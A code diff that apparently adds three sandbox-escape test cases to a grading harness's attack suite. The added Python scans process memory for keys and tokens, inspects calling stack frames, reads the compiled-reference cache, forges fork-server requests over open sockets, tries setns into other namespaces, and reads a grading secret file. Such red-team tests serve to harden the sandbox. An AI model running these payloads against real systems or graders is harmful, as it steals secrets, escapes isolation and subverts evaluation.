@@ -414,6 +414,71 @@ _FILES = (
         """,
     ),
     Attack(
+        "reads_its_memory",
+        Aim.FILES,
+        "looks through the memory that it has from the fork server, and through the stack that called it",
+        """
+        import re, sys
+        found = set()
+        wanted = rb"[0-9a-f]{64}|What only [a-z ]+[.]|token of [a-z0-9-]+"
+        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
+            for line in maps:
+                area, rights, *_ = line.split()
+                start, end = (int(number, 16) for number in area.split("-"))
+                if rights.startswith("rw") and end - start < 2**28:
+                    try:
+                        memory.seek(start)
+                        content = memory.read(end - start)
+                    except OSError:
+                        continue
+                    found |= set(re.findall(wanted, content))
+        print(found)
+        frame = sys._getframe()
+        while frame:
+            print(frame.f_code.co_filename, frame.f_locals.get("request"), frame.f_locals.get("files"))
+            frame = frame.f_back
+        """,
+    ),
+    Attack(
+        "reads_the_programs",
+        Aim.FILES,
+        "lists and reads what the reference has been compiled to",
+        """
+        import os, pathlib
+        place = pathlib.Path(os.environ.get("JAX_COMPILATION_CACHE_DIR", "«folder»/.grading/compiled"))
+        for folder in (place, *place.parents):
+            try:
+                for path in folder.iterdir():
+                    print(path, path.read_bytes()[:100] if path.is_file() else "")
+            except OSError as error:
+                print(error)
+        """,
+    ),
+    Attack(
+        "asks_the_fork_server",
+        Aim.FILES,
+        "asks for another fork over every socket that it finds open, and tries to join other namespaces",
+        """
+        import ctypes, json, os, socket
+        request = {"argv": ["python", "-c", "1"], "uid": None, "limits": {}, "filter": "", "folder": "/",
+                   "environment": {}}
+        for number in range(3, 200):
+            try:
+                with socket.socket(fileno=os.dup(number)) as other:
+                    socket.send_fds(other, [json.dumps(request).encode()], [0] * 6)
+            except OSError:
+                pass
+        for number in filter(str.isdigit, os.listdir("/proc")):
+            for kind in ("user", "mnt", "pid", "net"):
+                try:
+                    space = os.open(f"/proc/{number}/ns/{kind}", os.O_RDONLY)
+                    print(number, kind, ctypes.CDLL(None).setns(space, 0))
+                except OSError as error:
+                    print(error)
+        print(open("«folder»/.grading/secret").read())
+        """,
+    ),
+    Attack(
         "reads_by_a_link",
         Aim.FILES,
         "hands in a link to the secret, and reads it",
